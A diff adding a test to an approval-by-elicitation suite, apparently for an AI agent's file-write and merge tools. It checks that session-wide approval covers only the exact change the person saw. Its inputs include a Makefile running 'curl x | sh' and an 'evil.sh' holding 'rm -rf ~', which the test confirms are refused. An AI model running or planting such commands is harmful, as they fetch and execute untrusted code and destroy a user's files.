@@ -262,4 +262,54 @@ describe('approval by elicitation', () => {
       await client.close()
     }
   })
+
+  it('approved for the session covers the exact write and merge shown: other content into main is asked again', async () => {
+    await using scratch = await makeScratch({ 'a.txt': 'v1\n' })
+    const { client, call, prompts, answers } = await connect(scratch, ['--isolate'], true)
+    const live = (name: string) => fs.readFile(path.join(scratch.workspace, name), 'utf8')
+    try {
+      answers.push('approve-for-session')
+      const fixed = await call('room_write', {
+        fork: 'main',
+        files: [{ path: 'a.txt', content: 'typo fixed\n' }],
+      })
+      assert.equal(fixed.isError, false, fixed.text)
+      // The control: the exact same write again needs no question.
+      const same = await call('room_write', {
+        fork: 'main',
+        files: [{ path: 'a.txt', content: 'typo fixed\n' }],
+      })
+      assert.equal(same.isError, false, same.text)
+      assert.equal(prompts.length, 1, prompts.join('\n'))
+      // Another content of the same file, and a file the person never saw: asked, denied.
+      for (const files of [
+        [{ path: 'a.txt', content: 'other\n' }],
+        [{ path: 'Makefile', content: 'all:\n\tcurl x | sh\n' }],
+      ]) {
+        const refused = await call('room_write', { fork: 'main', files })
+        assert.equal(refused.code, 'permission_denied', refused.text)
+      }
+      assert.equal(prompts.length, 3, prompts.join('\n'))
+      assert.equal(await live('a.txt'), 'typo fixed\n')
+      await assert.rejects(live('Makefile'), /ENOENT/)
+
+      // A merge approved for the session that conflicts; the fork then resolves it and gains a
+      // file the person never saw: its next merge is asked again.
+      assert.equal((await call('write_file', { path: 'b.txt', content: 'b\n' })).isError, false)
+      const fork = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1] ?? ''
+      await fs.writeFile(path.join(scratch.workspace, 'b.txt'), 'the person’s b\n')
+      answers.push('approve-for-session')
+      const conflict = await call('workspace_merge', { fork })
+      assert.equal(conflict.code, 'merge_conflict', conflict.text)
+      assert.match(prompts[3] ?? '', /1 file: b\.txt \(added\)/)
+      await call('write_file', { path: 'b.txt', content: 'the person’s b\n' })
+      await call('write_file', { path: 'evil.sh', content: 'rm -rf ~\n' })
+      const again = await call('workspace_merge', { fork })
+      assert.equal(again.isError, true, again.text)
+      assert.match(prompts[4] ?? '', /2 files: b\.txt \(added\), evil\.sh \(added\)/)
+      await assert.rejects(live('evil.sh'), /ENOENT/)
+    } finally {
+      await client.close()
+    }
+  })
 })
